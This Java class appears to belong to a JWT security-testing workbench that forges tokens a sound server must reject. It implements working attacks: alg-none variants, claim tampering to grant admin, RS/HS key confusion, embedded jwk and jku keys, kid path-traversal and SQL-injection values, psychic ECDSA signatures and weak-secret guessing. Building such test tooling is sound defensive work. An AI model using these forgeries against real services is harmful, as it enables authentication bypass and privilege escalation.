package io.tokenworkbench.client.forge;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.JWK;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import io.tokenworkbench.client.inspector.WeakSecrets;
import org.bouncycastle.asn1.x509.SubjectPublicKeyInfo;

import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.PublicKey;
import java.security.SecureRandom;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;

/**
 * Makes tokens that a sound server must refuse, from a good one: edited claims under the old signature, unsecured
 * and unsigned tokens, other keys, and the classic JWT attacks (key confusion, embedded {@code jwk}, {@code jku},
 * {@code kid} traversal and injection, psychic signatures, guessable secrets). Each forged token carries a label
 * that says what was done, for cells and reports. Thread-safe; the attacker's own key pair is made once.
 *
 * <pre>{@code
 * Forgery forgery = new Forgery(Clock.systemUTC());
 * List<Forged> attempts = forgery.noneVariants(token);   // alg none, None, NONE, nOnE
 * }</pre>
 */
public final class Forgery {

    /** The audience or issuer put in when none is named. */
    public static final String DEFAULT_OTHER_PARTY = "https://attacker.example";
    /** The {@code kid} of the path-traversal attack: a file every Unix server has, and that is empty. */
    public static final String TRAVERSAL_KID = "../../../../../../dev/null";
    /** The HMAC key the {@code kid} injection makes a SQL lookup return. */
    public static final String INJECTED_KEY = "token-workbench-injected-key";
    /** A {@code kid} that makes {@code SELECT key FROM keys WHERE kid = '<kid>'} return {@link #INJECTED_KEY}. */
    public static final String INJECTION_KID = "none' UNION SELECT '" + INJECTED_KEY + "";
    /** The {@code kid} of the attacker's own key, in {@code jwk} and {@code jku} attacks. */
    public static final String ATTACKER_KID = "token-workbench-attacker";

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final SecureRandom RANDOM = new SecureRandom();
    private static final List<String> NONE_SPELLINGS = List.of("none", "None", "NONE", "nOnE");

    private final Clock clock;
    private volatile RSAKey attackerKey;

    public Forgery(Clock clock) {
        this.clock = clock;
    }

    /** A forged token and what was done to make it, e.g. {@code weak-secret 'changeme'}. */
    public record Forged(String label, String token) {
        @Override
        public String toString() {
            return "Forged[" + label + "]";
        }
    }

    /** A token split into its decoded header and payload and its signature text. */
    record Parts(ObjectNode header, ObjectNode payload, String encodedHeader, String encodedPayload,
                 String signature) {
        static Parts of(String token) {
            String[] parts = token.strip().split("\\.", -1);
            if (parts.length != 3) {
                throw new IllegalArgumentException("the token is not a JWS (expected three parts separated by dots)");
            }
            return new Parts(object(parts[0], "header"), object(parts[1], "payload"), parts[0], parts[1], parts[2]);
        }

        private static ObjectNode object(String part, String what) {
            try {
                JsonNode node = JSON.readTree(Base64.getUrlDecoder().decode(part));
                if (node instanceof ObjectNode object) {
                    return object;
                }
            } catch (IOException | IllegalArgumentException e) {
                // reported below
            }
            throw new IllegalArgumentException("the token's " + what + " is not base64url JSON");
        }

        /** A header for a re-signed token: the original's {@code typ} and the given members. */
        ObjectNode headerKeepingType() {
            ObjectNode copy = JSON.createObjectNode();
            copy.put("alg", "none");
            if (header.has("typ")) {
                copy.set("typ", header.get("typ"));
            }
            return copy;
        }
    }

    // --- one token, signature kept -----------------------------------------------------------------------

    /** Grants itself admin ({@code roles}, {@code is_staff}, {@code is_superuser}) under the old signature. */
    public String tampered(String token) {
        return editPayload(token, payload -> {
            payload.putArray("roles").add("admin");
            payload.put("is_staff", true);
            payload.put("is_superuser", true);
        });
    }

    /** Sets ({@code set}, a null value removes) and removes ({@code remove}) claims under the old signature. */
    public String claims(String token, ObjectNode set, List<String> remove) {
        return editPayload(token, payload -> {
            if (set != null) {
                for (Iterator<Map.Entry<String, JsonNode>> it = set.fields(); it.hasNext(); ) {
                    Map.Entry<String, JsonNode> claim = it.next();
                    if (claim.getValue() == null || claim.getValue().isNull()) {
                        payload.remove(claim.getKey());
                    } else {
                        payload.set(claim.getKey(), claim.getValue());
                    }
                }
            }
            if (remove != null) {
                remove.forEach(payload::remove);
            }
        });
    }

    /** Another audience under the old signature. */
    public String audience(String token, String audience) {
        return editPayload(token, payload -> payload.put("aud", orDefault(audience)));
    }

    /** Another issuer under the old signature. */
    public String issuer(String token, String issuer) {
        return editPayload(token, payload -> payload.put("iss", orDefault(issuer)));
    }

    /** The signature removed, the trailing dot kept. */
    public String stripped(String token) {
        Parts parts = Parts.of(token);
        return parts.encodedHeader() + "." + parts.encodedPayload() + ".";
    }

    // --- one token, signed anew --------------------------------------------------------------------------

    /** Unsecured: {@code alg: none} and no signature. */
    public String algNone(String token) {
        Parts parts = Parts.of(token);
        return TokenSigner.unsigned(parts.headerKeepingType(), parts.payload());
    }

    /** Signed by a freshly generated key of the same type, under the original {@code kid}. */
    public String otherKey(String token) {
        Parts parts = Parts.of(token);
        JWSAlgorithm alg = JWSAlgorithm.parse(parts.header().path("alg").asText());
        SigningKey key;
        try {
            if (JWSAlgorithm.Family.RSA.contains(alg)) {
                key = new SigningKey.Private(new RSAKeyGenerator(2048).generate());
            } else if (JWSAlgorithm.Family.EC.contains(alg)) {
                key = new SigningKey.Private(new ECKeyGenerator(Curve.forJWSAlgorithm(alg).iterator().next()).generate());
            } else if (JWSAlgorithm.Family.HMAC_SHA.contains(alg)) {
                byte[] secret = new byte[64];
                RANDOM.nextBytes(secret);
                key = new SigningKey.Secret(secret);
            } else {
                throw new IllegalArgumentException("cannot make another key for " + alg);
            }
        } catch (JOSEException e) {
            throw new IllegalArgumentException("cannot generate a key: " + e.getMessage(), e);
        }
        return TokenSigner.sign(parts.header(), parts.payload(), key, alg);
    }

    /** The same claims signed with {@code key} (its {@code kid} replaces the original's when it has one). */
    public String resign(String token, SigningKey key, JWSAlgorithm algorithm) {
        Parts parts = Parts.of(token);
        ObjectNode header = parts.header().deepCopy();
        key.keyId().ifPresent(kid -> header.put("kid", kid));
        return TokenSigner.sign(header, parts.payload(), key, algorithm == null ? key.defaultAlgorithm() : algorithm);
    }

    /** The same claims, expired an hour ago (issued for the original lifetime before that), signed with {@code key}. */
    public String expired(String token, SigningKey key, JWSAlgorithm algorithm) {
        Parts parts = Parts.of(token);
        long now = clock.instant().getEpochSecond();
        long lifetime = parts.payload().has("exp") && parts.payload().has("iat")
                ? Math.max(60, parts.payload().get("exp").asLong() - parts.payload().get("iat").asLong()) : 900;
        long exp = now - 3600;
        ObjectNode payload = parts.payload().deepCopy();
        payload.put("exp", exp);
        payload.put("iat", exp - lifetime);
        if (payload.has("nbf")) {
            payload.put("nbf", exp - lifetime);
        }
        ObjectNode header = parts.header().deepCopy();
        key.keyId().ifPresent(kid -> header.put("kid", kid));
        return TokenSigner.sign(header, payload, key, algorithm == null ? key.defaultAlgorithm() : algorithm);
    }

    // --- the classic attacks -----------------------------------------------------------------------------

    /**
     * Key confusion: HS256 keyed with the server's own public key, for each RSA or EC key of its JWKS (the one with
     * the token's {@code kid} when there is one), in the PEM forms a server may hold it in: X.509
     * SubjectPublicKeyInfo and, for RSA, PKCS#1, each with and without the final newline.
     */
    public List<Forged> keyConfusion(String token, JWKSet serverKeys) {
        Parts parts = Parts.of(token);
        String kid = parts.header().path("kid").asText(null);
        List<JWK> keys = serverKeys.getKeys().stream()
                .filter(k -> k instanceof RSAKey || k instanceof ECKey)
                .filter(k -> kid == null || kid.equals(k.getKeyID()))
                .toList();
        if (keys.isEmpty()) {
            keys = serverKeys.getKeys().stream().filter(k -> k instanceof RSAKey || k instanceof ECKey).toList();
        }
        if (keys.isEmpty()) {
            throw new IllegalArgumentException("key confusion needs the server's RSA or EC public key, and its JWKS "
                    + "has none");
        }
        List<Forged> forged = new ArrayList<>();
        for (JWK key : keys) {
            ObjectNode header = parts.headerKeepingType();
            if (key.getKeyID() != null) {
                header.put("kid", key.getKeyID());
            }
            String which = key.getKeyID() == null ? key.getKeyType().getValue() : "kid " + key.getKeyID();
            for (Map.Entry<String, String> pem : pemForms(key).entrySet()) {
                for (String ending : List.of("\n", "")) {
                    String label = "key-confusion: HS256 keyed with the " + pem.getKey()
                            + (ending.isEmpty() ? " without its final newline" : "") + " of " + which;
                    byte[] secret = (pem.getValue() + ending).getBytes(StandardCharsets.US_ASCII);
                    forged.add(new Forged(label, TokenSigner.sign(header, parts.payload(), new SigningKey.Secret(secret),
                            JWSAlgorithm.HS256)));
                }
            }
        }
        return forged;
    }

    /** CVE-2018-0114: signed with the attacker's key, which the header embeds as {@code jwk}. */
    public Forged jwkHeader(String token) {
        Parts parts = Parts.of(token);
        RSAKey attacker = attackerKey();
        ObjectNode header = parts.headerKeepingType();
        header.put("kid", ATTACKER_KID);
        header.set("jwk", JSON.valueToTree(attacker.toPublicJWK().toJSONObject()));
        return new Forged("jwk-header: signed with an attacker key embedded in the header",
                TokenSigner.sign(header, parts.payload(), new SigningKey.Private(attacker), JWSAlgorithm.RS256));
    }

    /** Signed with the attacker's key, the header's {@code jku} pointing at a JWKS that holds it. */
    public Forged jku(String token, URI jwksUrl) {
        Parts parts = Parts.of(token);
        ObjectNode header = parts.headerKeepingType();
        header.put("kid", ATTACKER_KID);
        header.put("jku", jwksUrl.toString());
        return new Forged("jku: signed with an attacker key published at " + jwksUrl,
                TokenSigner.sign(header, parts.payload(), new SigningKey.Private(attackerKey()), JWSAlgorithm.RS256));
    }

    /** The JWKS that {@link #jku} tokens point at: the attacker's public key. */
    public JWKSet attackerJwks() {
        return new JWKSet(attackerKey().toPublicJWK());
    }

    /** {@code kid} {@value #TRAVERSAL_KID} and HS256 keyed with its content, nothing. */
    public Forged kidTraversal(String token) {
        Parts parts = Parts.of(token);
        ObjectNode header = parts.headerKeepingType();
        header.put("kid", TRAVERSAL_KID);
        return new Forged("kid-traversal: kid " + TRAVERSAL_KID + ", HS256 with an empty key",
                TokenSigner.sign(header, parts.payload(), new SigningKey.Secret(new byte[0]), JWSAlgorithm.HS256));
    }

    /** A SQL-injection {@code kid} that makes a key lookup return {@value #INJECTED_KEY}, and HS256 keyed with that. */
    public Forged kidInjection(String token) {
        Parts parts = Parts.of(token);
        ObjectNode header = parts.headerKeepingType();
        header.put("kid", INJECTION_KID);
        return new Forged("kid-injection: kid " + INJECTION_KID + ", HS256 with the injected key",
                TokenSigner.sign(header, parts.payload(), SigningKey.secret(INJECTED_KEY), JWSAlgorithm.HS256));
    }

    /** CVE-2022-21449: ES256 with the signature r = s = 0, which broken ECDSA verifiers accept for any input. */
    public Forged psychic(String token) {
        Parts parts = Parts.of(token);
        ObjectNode header = parts.headerKeepingType();
        header.put("alg", "ES256");
        if (parts.header().has("kid")) {
            header.set("kid", parts.header().get("kid"));
        }
        return new Forged("psychic: ES256 signature with r = s = 0",
                TokenSigner.withSignature(header, parts.payload(), new byte[64]));
    }

    /** Unsecured tokens with {@code alg} spelled none, None, NONE and nOnE. */
    public List<Forged> noneVariants(String token) {
        Parts parts = Parts.of(token);
        return NONE_SPELLINGS.stream().map(spelling -> {
            ObjectNode header = parts.headerKeepingType();
            header.put("alg", spelling);
            return new Forged("none-variants: alg " + spelling, TokenSigner.unsigned(header, parts.payload()));
        }).toList();
    }

    /** HS256 with the empty secret. */
    public Forged blankSecret(String token) {
        Parts parts = Parts.of(token);
        ObjectNode header = parts.header().deepCopy();
        return new Forged("blank-secret: HS256 with an empty secret",
                TokenSigner.sign(header, parts.payload(), new SigningKey.Secret(new byte[0]), JWSAlgorithm.HS256));
    }

    /** HS256 with each guessable secret of the bundled list. */
    public List<Forged> weakSecrets(String token) {
        Parts parts = Parts.of(token);
        ObjectNode header = parts.header().deepCopy();
        return WeakSecrets.all().stream().map(secret -> new Forged("weak-secret: HS256 with '" + secret + "'",
                TokenSigner.sign(header, parts.payload(), SigningKey.secret(secret), JWSAlgorithm.HS256))).toList();
    }

    // -----------------------------------------------------------------------------------------------------

    private RSAKey attackerKey() {
        RSAKey key = attackerKey;
        if (key == null) {
            synchronized (this) {
                if (attackerKey == null) {
                    try {
                        attackerKey = new RSAKeyGenerator(2048).keyID(ATTACKER_KID).generate();
                    } catch (JOSEException e) {
                        throw new IllegalStateException("cannot generate the attacker's key", e);
                    }
                }
                key = attackerKey;
            }
        }
        return key;
    }

    private static String editPayload(String token, Consumer<ObjectNode> edit) {
        Parts parts = Parts.of(token);
        ObjectNode payload = parts.payload().deepCopy();
        edit.accept(payload);
        return parts.encodedHeader() + "." + TokenSigner.encode(payload) + "." + parts.signature();
    }

    private static String orDefault(String value) {
        return value == null || value.isBlank() ? DEFAULT_OTHER_PARTY : value;
    }

    /** "SPKI PEM" → text, and for RSA "PKCS#1 PEM" → text, without the final newline. */
    static Map<String, String> pemForms(JWK key) {
        try {
            PublicKey publicKey = key instanceof RSAKey rsa ? rsa.toPublicKey() : ((ECKey) key).toPublicKey();
            byte[] spki = publicKey.getEncoded();
            Map<String, String> forms = new java.util.LinkedHashMap<>();
            forms.put("SPKI PEM", pem("PUBLIC KEY", spki));
            if (key instanceof RSAKey) {
                byte[] pkcs1 = SubjectPublicKeyInfo.getInstance(spki).parsePublicKey().getEncoded();
                forms.put("PKCS#1 PEM", pem("RSA PUBLIC KEY", pkcs1));
            }
            return forms;
        } catch (JOSEException | IOException e) {
            throw new IllegalArgumentException("cannot encode the server's key: " + e.getMessage(), e);
        }
    }

    private static String pem(String type, byte[] der) {
        String body = Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII)).encodeToString(der);
        return "-----BEGIN " + type + "-----\n" + body + "\n-----END " + type + "-----";
    }
}
